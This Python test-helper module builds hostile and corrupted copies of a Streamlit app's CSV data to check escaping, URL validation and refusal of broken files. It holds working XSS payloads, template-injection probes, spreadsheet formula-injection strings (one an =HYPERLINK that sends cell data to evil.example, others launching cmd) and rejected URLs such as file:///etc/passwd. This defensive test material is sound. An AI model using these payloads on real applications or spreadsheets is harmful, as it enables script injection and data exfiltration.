"""Hostile inputs for tests: text payloads, source URLs, and copies of data/ carrying them or broken.

Pure helpers (no streamlit, no pytest): ``hostile_folder()`` copies ``data/`` and rewrites
every free-text cell with a payload, keeping the folder valid so the app renders it;
``FAULTS`` break a copy in one way each so the app must refuse it. Payloads that would
create an element carry the attribute ``data-pwn``, so a test can query for it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
from collections.abc import Callable
from pathlib import Path

from components.escape import plain_text
from components.schema import SPECS_BY_NAME, Kind

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "data"
MARKER = "data-pwn"

# Text a hostile or careless editor might put into a name, description, title or note.
PAYLOADS: tuple[str, ...] = (
    "<img src=x data-pwn=1 onerror=\"alert('img')\">",
    "</script><script data-pwn=1>alert('script')</script>",
    "`-alert('backtick')-`",
    "${alert('template')}",
    "A${7*6}B",
    '" data-pwn="1" onmouseover="alert(\'dq\')',
    "' data-pwn='1' onmouseover='alert(1)'",
    "\\`${alert('backslash')}",
    "\u202eevil.exe",
    "Long" + "x" * 9_996,
    "",
    "NaN",
    "<svg data-pwn=1 onload=alert('svg')>",
    "{{ 7*7 }}{% raw %}",
    "[click me](javascript:alert('md'))",
    "<iframe data-pwn=1 src=\"javascript:alert('iframe')\"></iframe>",
    "&lt;b data-pwn=1&gt;entity&lt;/b&gt;",
    "**bold** _it_ $x^2$ :red[red]",
    "line one\nline two <b data-pwn=1>bold</b>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # Formulas a spreadsheet would run from a downloaded CSV (OWASP "CSV injection").
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# The characters that make a spreadsheet read a cell as a formula.
FORMULA_PAYLOAD_STARTS = ("=", "+", "-", "@")
EMPTY_LIKE = frozenset({"", "NaN"})

# Source URLs that pass the validator (absolute http(s)) but try to break out of a link.
ACCEPTED_URLS: tuple[str, ...] = (
    'https://example.com/"data-pwn="1"onmouseover="alert(1)',
    "https://example.com/<img/data-pwn=1/src=x/onerror=alert(1)>",
    "https://example.com/)[x](javascript:alert(1)",
    "http://example.com/${alert(1)}`",
    "https://example.com/'onclick='alert(1)'",
)
# Source URLs the validator must refuse: not http(s), or hiding characters a reader cannot see.
REJECTED_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://",
    "https://exa mple.com",
    "https://example.com/\u202egpj.exe",
    "https://example.com\njavascript:alert(1)",
    "https://example.com/\tx",
)


def payload_for(column: str, row: int, required: bool) -> str:
    """The payload a cell gets: cycled by row and column, never empty where text is needed."""
    # notes and location_note are needed by row rules (approximate points, unplaced facilities).
    needs_text = required or column in ("notes", "location_note")
    candidates = [p for p in PAYLOADS if not (needs_text and p in EMPTY_LIKE)]
    return candidates[(row + len(column)) % len(candidates)]


def _rewrite(path: Path, edit: Callable[[str, int, str, str], str]) -> None:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for row_number, row in enumerate(rows[1:], start=2):
        for position, column in enumerate(header):
            row[position] = edit(column, row_number, row[position], path.name)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _hostile_cell(file: str, column: str, row: int, value: str) -> str:
    spec_column = next((c for c in SPECS_BY_NAME[file].columns if c.name == column), None)
    if spec_column is None:
        return value
    if file == "sources.csv" and column == "url":
        return ACCEPTED_URLS[row % len(ACCEPTED_URLS)]
    if spec_column.kind is Kind.TEXT:
        return payload_for(column, row, spec_column.required)
    return value


def hostile_folder(destination: Path) -> Path:
    """A valid copy of data/ whose every free-text cell and every source URL is hostile."""
    shutil.copytree(DATA, destination)
    for name in SPECS_BY_NAME:
        path = destination / name
        if path.exists():
            _rewrite(path, lambda column, row, value, file: _hostile_cell(file, column, row, value))
    return destination


def displayed(payload: str) -> str:
    """The text a reader should see for a payload (controls dropped, bidi shown, spaces collapsed)."""
    return " ".join(plain_text(payload).split())


def folder_hashes(folder: Path) -> dict[str, str]:
    """The sha256 of every file in a folder, by name."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()}


# Each fault breaks a copy of data/ in one way: (what an editor did, how to do it).
def _remove(folder: Path) -> None:
    (folder / "places.csv").unlink()


def _empty(folder: Path) -> None:
    (folder / "corridors.csv").write_bytes(b"")


def _wrong_header(folder: Path) -> None:
    path = folder / "facilities.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("name_en", "Name (English)", 1), encoding="utf-8")


def _latin1(folder: Path) -> None:
    path = folder / "partners.csv"
    path.write_bytes(path.read_text(encoding="utf-8").replace("Uzbekistan", "Özbekiston").encode("latin-1"))


def _bad_coordinates(folder: Path) -> None:
    path = folder / "places.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    rows[1][rows[0].index("lat")] = "139.47"
    rows[2][rows[0].index("lon")] = "76,02"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _garbage_binary(folder: Path) -> None:
    # There is no GeoJSON in data/; countries.csv (the outlines' lookup) stands in for it.
    (folder / "countries.csv").write_bytes(bytes(range(256)) * 64)


def _broken_countries(folder: Path) -> None:
    path = folder / "countries.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text[: len(text) // 2] + '"unclosed,quote\nPAK', encoding="utf-8")


def _duplicate_ids(folder: Path) -> None:
    path = folder / "sources.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text("".join([*lines, lines[1]]), encoding="utf-8")


def _fifty_megabytes(folder: Path) -> None:
    path = folder / "milestones.csv"
    header = path.read_text(encoding="utf-8").splitlines()[0]
    with path.open("w", encoding="utf-8") as handle:
        handle.write(header + "\n")
        row = "m,2020,x,kashgar-ftz,source-article," + "x" * 1_000 + "\n"
        for _ in range(50 * 1024):
            handle.write(row)


def _nul_bytes(folder: Path) -> None:
    path = folder / "products.csv"
    path.write_bytes(path.read_bytes().replace(b"Batteries", b"Batt\x00eries"))


FAULTS: dict[str, tuple[Callable[[Path], None], str]] = {
    "missing file": (_remove, "places.csv"),
    "empty file": (_empty, "corridors.csv"),
    "wrong header": (_wrong_header, "facilities.csv"),
    "not UTF-8": (_latin1, "partners.csv"),
    "invalid coordinates": (_bad_coordinates, "places.csv"),
    "garbage binary": (_garbage_binary, "countries.csv"),
    "broken CSV quoting": (_broken_countries, "countries.csv"),
    "duplicate ids": (_duplicate_ids, "sources.csv"),
    "50 MB file": (_fifty_megabytes, "milestones.csv"),
    "NUL bytes": (_nul_bytes, "products.csv"),
}


def broken_folder(destination: Path, fault: str) -> Path:
    """A copy of data/ broken by one of ``FAULTS``."""
    shutil.copytree(DATA, destination)
    FAULTS[fault][0](destination)
    return destination
